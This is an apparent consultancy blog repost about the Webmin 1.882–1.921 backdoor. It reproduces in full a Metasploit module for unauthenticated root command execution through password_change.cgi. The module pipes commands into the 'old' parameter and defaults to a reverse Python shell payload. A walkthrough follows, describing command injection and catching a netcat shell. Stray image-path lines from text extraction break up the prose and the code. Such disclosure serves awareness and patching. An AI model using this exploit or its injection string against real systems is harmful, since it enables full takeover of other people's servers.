The original articles can be found here and here.

It seems like it is the season for vulnerabilities of different kinds.

GTconsult recently got wind of a vulnerability that it feels that clients need to be aware of. The following article was taken from this blog and was not originally produced by GTconsult.

What you need to know.

The vulnerability was secretly planted by an unknown hacker who successfully managed to inject a BACKDOOR at some point in its build infrastructure that surprisingly persisted into various releases of Webmin (1.882 through 1.921) and eventually remained hidden for over a year.

Developers confirmed that the official Webmin downloads were replaced by the backdoored packages only on theproject’s SourceForge repository, and not on the Webmin’s Github repositories.

This module requires Metasploit: # Current source: ## class MetasploitModule < Msf::Exploit::Remote Rank = ExcellentRanking include Msf::Exploit::Remote::HttpClient def initialize(info = {}) super(update_info(info, 'Name' => 'Webmin 1.882 <= 1921 Unauthenticated RCE', 'Description' => %q( This module exploits an arbitrary command execution vulnerability in Webmin 1.920 and prior versions. If the password change module is turned on, the unathenticated user can execute arbitrary commands with root privileges. Webmin 1.890 is vulnerable in the default configuration, while the other affected versions require the “user password change” option to be enabled. /////// This 0day has been published at DEFCON-AppSec Village. /////// ), 'Author' => [ 'AkkuS <Özkan Mustafa Akkuş>' # Discovery & PoC & Metasploit module @ehakkus ], 'License' => MSF_LICENSE, 'References' => [ ['CVE', '2019-'], ['URL', ''] ], 'Privileged' => true, 'Payload' => { 'DisableNops' => true, 'Space' => 512, 'Compat' => { 'PayloadType' => 'cmd' } }, 'DefaultOptions' => { 'RPORT' => 10000, 'SSL' => false, 'PAYLOAD' => 'cmd/unix/reverse_python' }, 'Platform' => 'unix', 'Arch' => ARCH_CMD, 'Targets' => [['Webmin <= 1.910', {}]], 'DisclosureDate' => 'May 16 2019', 'DefaultTarget' => 0) ) register_options ['TARGETURI', [true, 'Base path for Webmin application', '/']) ] end def peer "#{ssl ? 'https://' : 'http://' }#{rhost}:#{rport}" end ## # Target and input verification ## def check # check passwd change priv res = send_request_cgi({ 'uri' => normalize_uri(target_uri.path, "password_change.cgi"), 'headers' => { 'Referer' => "#{peer}/session_login.cgi" }, 'cookie' => "redirect=1; testing=1; sid=x;sessiontest=1" }) if res && res.code == 200 && res.body =~ /Failed/ res = send_request_cgi( { 'method' => 'POST', 'cookie' => "redirect=1; testing=1; sid=x; sessiontest=1", 'ctype' => 'application/x-www-form-urlencoded', 'uri' => normalize_uri(target_uri.path, 'password_change.cgi'), 'headers' => { 'Referer' => "#{peer}/session_login.cgi" }, 'data' => "user=root&pam=&expired=2&old=AkkuS%7cdir%20&new1=akkuss&new2=akkuss" }) if res && res.code == 200 && res.body =~ /password_change.cgi/ return CheckCode::Vulnerable else return CheckCode::Safe end else return CheckCode::Safe end end ## # Exploiting phase ## def exploit unless Exploit::CheckCode::Vulnerable == check fail_with(Failure::NotVulnerable, 'Target is not vulnerable.') end command = payload.encoded print_status("Attempting to execute the payload...") handler res =send_request_cgi( { 'method' => 'POST', 'cookie' => "redirect=1; testing=1; sid=x; sessiontest=1", 'ctype' => 'application/x-www-form-urlencoded', 'uri' => normalize_uri(target_uri.path, 'password_change.cgi'), 'headers' => { 'Referer' => "#{peer}/session_login.cgi" }, 'data' => "user=root&pam=&expired=2&old=AkkuS%7c#{command}%20&new1=akkuss&new2=akkuss" }) end end

In webmin, the “user password change” must be allowed for the exploit vulnerability. this is the only condition. Many webmin managers enable this feature. They allows users to set a new password with the old password. Let’s take a closer look at this.

Webmin 1.890 is vulnerable in the default configuration, while the other affected versions require the “user password change” option to be enabled.

While researching on the Webmin application, I noticed some interesting “.cgi” files. One of them is “password_change.cgi”

There is only one requirement for the parameters in this file to work, that the “passwd_mode” value in the “miniserv.conf” configuration file is set to “2”.

<code class="hljs php"><span class="cp">$miniserv{<span class="hljs-string">'passwd_mode'</span>} == <span class="hljs-number">2</span> || <span class="hljs-keyword">die</span><span class="hljs-string">"Password changing is not enabled!"</span>;</span>

So how does the administrator activate this configuration? let’s check…In the “Webmin> Webmin Configuration> Authentication” section, “Prompt users with expired passwords to enter a new one” should be checked. This means a value of “2” for “password_change” in “miniserv.conf”.

After this configuration, users can change their expired password by verifying their old password.

So where exactly is the vulnerability? Let’s back to “password_change.cgi”.

“password_change.cgi” sends the old password to “encrypt_password” function in “acl/”

This function calls the other function “unix_crypt”.

In another section, the same function “unix_crypt” is called again for “Validate old password”.At this point, we will use “vertical bar (|)” by reading the shadow file during validating the old password.

Let’s look at this by sending a request with the burp suite.

We sent a request with an ordinary “POST” data, and naturally gave an error “Failed to change password: The current password is incorrect”.

The vulnerability is exactly included in the “old” parameter.

It doesn’t matter if the username, old password or other information is correct.

The file “password_change.cgi” will check the information in the“old” parameter on the server. It won’t even check if the username is correct or not.

we will now use “vertical bar (|)” and try to run a different command on the server.

As you can see, the command “ifconfig” is executed by the server and the output is shown.

Now let’s send a malicious payload to the server andreceive shell session.

I’ll use “netcat” payload for proof. Because I know there is netcat on the server.

As you can see the shell was received. When we run the command “pwd”, we can see that the malicious payload is executed inthe “acl” folder. Because the function is called here.

The webmin backdoor is a serious vulnerability that you need to be aware of. We know that it may be difficult to fix on your own so if you run into any issues or if you cannot fix it on your own, contact our A Team and let us help you enable yourproductivity in your business.